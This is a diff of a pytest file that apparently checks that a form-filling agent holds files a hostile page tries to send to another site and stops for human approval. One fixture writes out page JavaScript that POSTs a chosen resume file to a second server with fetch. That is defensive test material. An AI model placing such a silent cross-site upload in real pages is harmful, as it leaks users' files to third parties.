@@ -117,14 +117,14 @@ async def test_a_dry_run_ends_there(site: Hostile, tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize("way", OTHERS)
-async def test_to_another_site_no_file_goes_whoever_agrees(
+async def test_without_leave_no_file_goes_to_another_site(
     site: Hostile, tmp_path: Path, way: str
 ) -> None:
     with ExitStack() as stack:
         other = stack.enter_context(hostile())
         site.page = form(AT_ONCE % {"way": WAYS[way], "to": other.origin})
-        await applied(site, tmp_path, lets=True)
-        assert other.uploaded == []
+        assert end(await applied(site, tmp_path)) == "needs_human:step_write"
+        assert (other.uploaded, site.posted) == ([], [])
 
 
 SILENT = """<p>Resume <button type=button id=go>Attach</button> <span id=named></span>
@@ -165,7 +165,7 @@ async def test_a_file_that_is_sent_long_after_it_was_chosen_waits_for_leave_as_w
     assert (site.uploaded, site.posted) == ([], [])
 
 
-async def test_a_file_for_another_site_is_held_and_the_sheet_names_the_place(
+async def test_a_file_for_another_site_is_held_and_the_end_names_the_place(
     site: Hostile, tmp_path: Path
 ) -> None:
     with hostile() as other:
@@ -173,7 +173,6 @@ async def test_a_file_for_another_site_is_held_and_the_sheet_names_the_place(
         to = f"'http://{elsewhere}/upload'"
         sends = "const data = new FormData(); data.append('f', cv.files[0]);"
         site.page = form(SILENT % f"{sends} await fetch({to}, {{ method: 'POST', body: data }});")
-        receipt = await applied(site, tmp_path, lets=True)
-        assert other.uploaded == []
-        held = f"resume.pdf: the page would send it to {elsewhere}"
-        assert any(note.startswith(held) for note in receipt.notes), receipt.notes
+        receipt = await applied(site, tmp_path)
+        assert (other.uploaded, site.posted) == ([], [])
+        assert any(f"at {elsewhere}, another site" in each for each in receipt.errors)
